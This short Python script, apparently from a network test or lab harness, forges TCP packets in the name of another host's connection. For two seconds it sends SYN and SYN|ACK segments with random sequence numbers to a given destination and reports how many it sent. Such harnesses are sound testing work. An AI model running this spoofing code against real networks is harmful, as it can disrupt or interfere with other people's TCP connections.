"""Packets in the name of a connection of another host: SYNs of many sequence numbers, and those that go with them."""
import os
import sys
import time

from attack import frame_to, report, tcp_packet

interface, neighbour, source, source_port, destination, destination_port = sys.argv[1:7]
source, destination = (source, int(source_port)), (destination, int(destination_port))
SYN, RST, ACK = 0x02, 0x04, 0x10
forged, end = 0, time.monotonic() + 2
while time.monotonic() < end:
    number = int.from_bytes(os.urandom(4), "big")
    for flags in [SYN, SYN | ACK]:
        frame_to(interface, neighbour, tcp_packet(source, destination, number, 0, flags))
        forged += 1
    time.sleep(0.02)
report(forged=forged)
